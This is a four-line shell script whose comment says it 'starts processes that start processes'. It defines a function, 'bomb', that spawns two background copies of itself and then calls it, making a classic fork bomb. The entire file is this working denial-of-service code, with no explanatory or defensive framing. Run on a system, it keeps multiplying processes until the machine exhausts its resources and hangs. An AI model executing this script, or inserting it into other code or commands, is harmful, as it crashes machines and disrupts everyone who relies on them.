#!/bin/sh
# Starts processes that start processes.
bomb() { bomb & bomb & wait; }
bomb
